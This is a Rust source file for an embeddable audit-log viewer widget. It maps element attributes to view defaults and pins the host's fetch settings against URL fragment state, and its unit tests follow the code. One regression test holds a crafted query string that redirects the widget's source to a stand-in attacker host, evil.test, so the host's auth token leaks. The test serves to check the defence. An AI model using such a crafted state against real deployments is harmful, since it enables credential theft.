//! The `<trail-view>` element's attributes as view state: `source`, `page-size`,
//! `columns`, `tz` and `redact` are the widget's defaults (as `trailview.json` is a page's),
//! and `state` is a query string over them, the same one the app keeps in its URL.
//!
//! A host that gives `source` decides what is fetched: [`pin`] holds the request's
//! definition (source, paging, how the token goes, the entry limit, masking) to the
//! host's, whatever a `state`, the page's fragment or a message says.

use crate::core::query::ViewState;
use crate::core::query::codec::encode;

/// Attributes that set a view default, with the query parameter each one is.
pub(crate) const VIEW_ATTRIBUTES: &[(&str, &str)] = &[
    ("source", "source"),
    ("page-size", "size"),
    ("columns", "cols"),
    ("tz", "tz"),
    ("redact", "redact"),
];

/// The host's views (`views='[{"name": …, "query": "q=…"}]'`), shown before the
/// admin's own; a malformed list gives none.
pub(crate) fn views(value: &str) -> Vec<crate::core::query::saved::SavedView> {
    crate::core::inspect::parse(value.as_bytes())
        .ok()
        .and_then(|v| crate::core::deploy::config::views(&v))
        .unwrap_or_default()
}

/// True if the host gave a source (then the Log source field is not offered).
pub(crate) fn source_locked(attributes: &[(String, String)]) -> bool {
    attributes
        .iter()
        .any(|(k, v)| k == "source" && !v.trim().is_empty())
}

/// The widget's defaults from its attributes (`attr` gives an attribute's value).
/// A malformed value is ignored, as a malformed URL parameter is.
pub(crate) fn defaults(attr: impl Fn(&str) -> Option<String>) -> ViewState {
    let query = VIEW_ATTRIBUTES
        .iter()
        .filter_map(|(name, param)| {
            attr(name)
                .map(|v| v.trim().to_string())
                .filter(|v| !v.is_empty())
                .map(|v| format!("{param}={}", encode(&v)))
        })
        .collect::<Vec<_>>()
        .join("&");
    ViewState::from_query(&query)
}

/// The host's pinned filters (`filters="f.tenant==acme&f.type=login*"`): column
/// filters in the URL's `f.<column>=<expression>` form, applied on top of whatever
/// the admin filters, and not removable from inside.
pub(crate) fn pinned_filters(value: &str) -> Vec<(String, String)> {
    crate::core::query::codec::column_filters(value.trim())
}

/// `view` with what defines its requests taken from the host's defaults `host` when the
/// host gave a source: the source, paging, auth and limit are the host's, and masking is
/// the host's plus the view's (it can only grow). A view of a widget without a host
/// source is returned as it is.
pub(crate) fn pin(view: ViewState, host: &ViewState) -> ViewState {
    if host.source.is_none() {
        return view;
    }
    ViewState {
        source: host.source.clone(),
        paging: host.paging.clone(),
        auth: host.auth.clone(),
        limit: host.limit,
        redact: host.redact.union(&view.redact),
        ..view
    }
}

/// With `url-state="hash"`, a widget keeps its view in the host's address as one
/// `key=state` pair of the fragment (`#org=q%3Dada&booking=page%3D2`), `key` being the
/// element's id. The state of `key` in `hash` (with or without its `#`), if any.
pub(crate) fn hash_state(hash: &str, key: &str) -> Option<String> {
    hash.trim_start_matches('#').split('&').find_map(|pair| {
        let (k, v) = pair.split_once('=')?;
        (decode(k) == key).then(|| decode(v))
    })
}

/// `hash` with the state of `key` set to `state` (removed when empty), the other
/// pairs kept in their order; returned without `#`.
pub(crate) fn with_hash_state(hash: &str, key: &str, state: &str) -> String {
    let mut pairs: Vec<String> = hash
        .trim_start_matches('#')
        .split('&')
        .filter(|p| !p.is_empty())
        .filter(|p| p.split_once('=').is_none_or(|(k, _)| decode(k) != key))
        .map(str::to_string)
        .collect();
    if !state.is_empty() {
        pairs.push(format!("{}={}", component(key), component(state)));
    }
    pairs.join("&")
}

fn component(s: &str) -> String {
    crate::core::source::escape::component(s)
}

fn decode(s: &str) -> String {
    crate::core::source::escape::decode_form(s)
}

/// The view after the defaults change from `old` to `new`: what the admin changed
/// stays changed, the rest follows the new defaults; another source starts afresh.
pub(crate) fn rebase(view: &ViewState, old: &ViewState, new: &ViewState) -> ViewState {
    if new.source != old.source {
        return view.for_source(new.source.clone(), new);
    }
    ViewState::from_query_over(&view.to_query_over(old), new)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_non_empty_source_locks_the_log_source_field() {
        let a = |pairs: &[(&str, &str)]| {
            pairs
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect::<Vec<_>>()
        };
        assert!(source_locked(&a(&[
            ("app", "x"),
            ("source", "https://a.test/log")
        ])));
        assert!(!source_locked(&a(&[("source", "  ")])));
        assert!(!source_locked(&a(&[("app", "x")])));
    }

    fn attrs<'a>(pairs: &'a [(&'a str, &'a str)]) -> impl Fn(&str) -> Option<String> + 'a {
        move |name| {
            pairs
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.to_string())
        }
    }

    #[test]
    fn attributes_become_defaults() {
        let d = defaults(attrs(&[
            ("source", "https://x/audit?a=1&b=2"),
            ("page-size", "25"),
            ("columns", "time,action,actor"),
            ("tz", "+05:30"),
            ("height", "600px"),
        ]));
        assert_eq!(d.source.as_deref(), Some("https://x/audit?a=1&b=2"));
        assert_eq!(d.size, 25);
        assert_eq!(
            d.cols,
            Some(vec!["time".to_string(), "action".into(), "actor".into()])
        );
        assert_eq!(
            d.to_query(),
            ViewState::from_query(&d.to_query()).to_query()
        );
        assert_eq!(d.tz, crate::core::time::Zone::Fixed(330));
    }

    #[test]
    fn a_redact_attribute_masks_and_the_widgets_own_state_cannot_unmask() {
        let d = defaults(attrs(&[("redact", "email, *.password")]));
        assert_eq!(d.redact.to_param(), "email,*.password");
        let inside = ViewState::from_query_over("redact=&q=ada", &d);
        assert_eq!(inside.redact, d.redact);
    }

    #[test]
    fn a_views_attribute_lists_the_hosts_views() {
        let v = views(r#"[{"name": "Failed", "query": "?q=kind:failed-sign-in"}]"#);
        assert_eq!(
            (v[0].name.as_str(), v[0].query.as_str()),
            ("Failed", "q=kind:failed-sign-in")
        );
        assert!(views("[{\"name\": 1}]").is_empty());
        assert!(views("not json").is_empty());
    }

    #[test]
    fn bad_or_empty_attributes_are_ignored() {
        let d = defaults(attrs(&[("page-size", "lots"), ("source", "  ")]));
        assert_eq!(d, ViewState::default());
    }

    #[test]
    fn state_is_a_query_over_the_defaults() {
        let d = defaults(attrs(&[("page-size", "25")]));
        let v = ViewState::from_query_over("q=ada&page=2", &d);
        assert_eq!((v.q.as_str(), v.page, v.size), ("ada", 1, 25));
        assert_eq!(v.to_query_over(&d), "q=ada&page=2");
    }

    #[test]
    fn changed_defaults_keep_what_the_admin_changed() {
        let old = defaults(attrs(&[("page-size", "25")]));
        let new = defaults(attrs(&[("page-size", "100")]));
        let v = ViewState::from_query_over("q=ada", &old);
        let r = rebase(&v, &old, &new);
        assert_eq!((r.q.as_str(), r.size), ("ada", 100));
        // The admin's own page size outlives a new default.
        let mine = ViewState::from_query_over("size=250", &old);
        assert_eq!(rebase(&mine, &old, &new).size, 250);
    }

    #[test]
    fn pinned_filters_read_like_url_filters() {
        assert_eq!(
            pinned_filters("f.tenant==acme&f.type=login*"),
            vec![
                ("tenant".to_string(), "=acme".to_string()),
                ("type".into(), "login*".into())
            ]
        );
        assert!(pinned_filters("").is_empty());
        assert!(pinned_filters("q=x&page=2").is_empty());
    }

    #[test]
    fn hash_state_is_one_pair_per_widget() {
        let h = with_hash_state("", "org", "q=ada&page=2");
        assert_eq!(h, "org=q%3Dada%26page%3D2");
        assert_eq!(
            hash_state(&format!("#{h}"), "org").as_deref(),
            Some("q=ada&page=2")
        );
        let both = with_hash_state(&h, "booking", "size=5");
        assert_eq!(hash_state(&both, "org").as_deref(), Some("q=ada&page=2"));
        assert_eq!(hash_state(&both, "booking").as_deref(), Some("size=5"));
        // Setting one leaves the other; an empty state removes the pair.
        let changed = with_hash_state(&both, "org", "q=grace");
        assert_eq!(changed, "booking=size%3D5&org=q%3Dgrace");
        assert_eq!(with_hash_state(&changed, "org", ""), "booking=size%3D5");
        // The host's own fragment survives.
        assert_eq!(with_hash_state("top", "org", "q=x"), "top&org=q%3Dx");
        assert_eq!(hash_state("#top", "org"), None);
    }

    #[test]
    fn a_hosts_source_and_how_it_is_fetched_are_pinned() {
        // Regression: a crafted fragment (`url-state="hash"`) set `source` and `auth`, and
        // the host's provider token went to the attacker's server.
        let host = defaults(attrs(&[
            ("source", "https://api.test/audit"),
            ("redact", "email"),
        ]));
        let crafted = ViewState::from_query_over(
            "source=https%3A%2F%2Fevil.test%2Fsteal&auth=header:X-Leak&paging=next:q&limit=5&redact=&q=ada",
            &host,
        );
        assert_eq!(crafted.source.as_deref(), Some("https://evil.test/steal"));
        let pinned = pin(crafted, &host);
        assert_eq!(pinned.source.as_deref(), Some("https://api.test/audit"));
        assert_eq!(
            (&pinned.paging, &pinned.auth, pinned.limit),
            (&host.paging, &host.auth, host.limit)
        );
        assert_eq!(pinned.redact.to_param(), "email");
        assert_eq!(pinned.q, "ada", "the rest of the view is the admin's");
        // Without a host source the view chooses its log (the Log source field is there).
        let free = ViewState::from_query("source=https%3A%2F%2Fother.test%2Flog");
        assert_eq!(pin(free.clone(), &ViewState::default()), free);
    }

    #[test]
    fn another_source_starts_afresh() {
        let old = defaults(attrs(&[("source", "https://x/a")]));
        let new = defaults(attrs(&[("source", "https://x/b")]));
        let v = ViewState::from_query_over("q=ada&f.type=login", &old);
        let r = rebase(&v, &old, &new);
        assert_eq!(r.source.as_deref(), Some("https://x/b"));
        assert!(r.q.is_empty());
        assert!(!r.is_filtered());
    }
}
